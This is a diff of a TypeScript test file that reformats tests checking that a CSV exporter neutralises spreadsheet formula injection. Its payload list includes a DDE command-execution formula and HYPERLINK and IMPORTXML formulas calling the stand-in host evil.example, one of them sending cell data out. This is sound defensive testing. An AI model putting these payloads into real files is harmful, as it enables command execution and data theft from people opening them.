@@ -38,11 +38,19 @@ function read(text: string, separator: string): string[][] {
   return rows.slice(0, -1)
 }
 
-const isFormula = (cell: string) => /^[\s\p{C}]*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]/u.test(cell) || /^[\t\r]/.test(cell)
+const isFormula = (cell: string) =>
+  /^[\s\p{C}]*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]/u.test(cell) || /^[\t\r]/.test(cell)
 
 const starts = ['=', '+', '-', '@', '\uFF1D', '\uFF0B', '\uFF0D', '\uFF20']
 const payloads = [
-  ...starts.flatMap((start) => [`${start}1+1`, ` ${start}1+1`, `\t${start}1+1`, `\r${start}1+1`, `a;${start}1+1`, `a\n${start}1+1`]),
+  ...starts.flatMap((start) => [
+    `${start}1+1`,
+    ` ${start}1+1`,
+    `\t${start}1+1`,
+    `\r${start}1+1`,
+    `a;${start}1+1`,
+    `a\n${start}1+1`,
+  ]),
   "=cmd|' /C calc'!A0",
   '=HYPERLINK("http://evil.example?x="&A1,"Click")',
   '=IMPORTXML("http://evil.example","//a")',
@@ -69,30 +77,52 @@ describe('a cell', () => {
     expect(new Set(payloads).size).toBeGreaterThanOrEqual(60)
   })
 
-  it.each(payloads)('[P36] [D-103] %j is no formula, whatever separates the cells where it is opened', (payload) => {
-    const line = csvLine([payload, 'id', `${payload} (Individual)`, 66.67])
-    for (const separator of [',', ';', '\t', '|']) for (const row of read(line, separator)) expect(row.filter(isFormula)).toEqual([])
-    expect(read(line, ',')).toEqual([[asText(payload), 'id', asText(`${payload} (Individual)`), '66.67']])
-  })
-
-  it.each(['Jean-Luc O’Neil', 'Müller, "Hannes"', 'two\nlines', 'a;b', '山田 太郎', 'Лев Толстой', 'R+D', 'ana@example.org', '', 'x = y', '1-2'])(
-    '[EXP-05] %j stays as it is',
-    (text) => {
-      expect(asText(text)).toBe(text)
-      expect(read(csvLine([text, text]), ',')).toEqual([[text, text]])
+  it.each(payloads)(
+    '[P36] [D-103] %j is no formula, whatever separates the cells where it is opened',
+    (payload) => {
+      const line = csvLine([payload, 'id', `${payload} (Individual)`, 66.67])
+      for (const separator of [',', ';', '\t', '|'])
+        for (const row of read(line, separator)) expect(row.filter(isFormula)).toEqual([])
+      expect(read(line, ',')).toEqual([
+        [asText(payload), 'id', asText(`${payload} (Individual)`), '66.67'],
+      ])
     },
   )
+
+  it.each([
+    'Jean-Luc O’Neil',
+    'Müller, "Hannes"',
+    'two\nlines',
+    'a;b',
+    '山田 太郎',
+    'Лев Толстой',
+    'R+D',
+    'ana@example.org',
+    '',
+    'x = y',
+    '1-2',
+  ])('[EXP-05] %j stays as it is', (text) => {
+    expect(asText(text)).toBe(text)
+    expect(read(csvLine([text, text]), ',')).toEqual([[text, text]])
+  })
 
   it('[EXP-05] is a number without quotes, or empty', () => {
     expect(csvLine(['Ana', 66.67, 0, null, 100])).toBe('"Ana",66.67,0,,100\r\n')
   })
 
   it('[EXP-05] [P36] any row is read back as it was, no cell of it a formula', () => {
-    const cell = fc.oneof(fc.string({ unit: 'grapheme' }), fc.constantFrom(...payloads), fc.nat(1000), fc.constant(null))
+    const cell = fc.oneof(
+      fc.string({ unit: 'grapheme' }),
+      fc.constantFrom(...payloads),
+      fc.nat(1000),
+      fc.constant(null),
+    )
     fc.assert(
       fc.property(fc.array(cell, { minLength: 1 }), (cells: Cell[]) => {
         const [row = []] = read(csvLine(cells), ',')
-        expect(row).toEqual(cells.map((one) => (typeof one === 'string' ? asText(one) : String(one ?? ''))))
+        expect(row).toEqual(
+          cells.map((one) => (typeof one === 'string' ? asText(one) : String(one ?? ''))),
+        )
         expect(row.filter(isFormula)).toEqual([])
       }),
     )
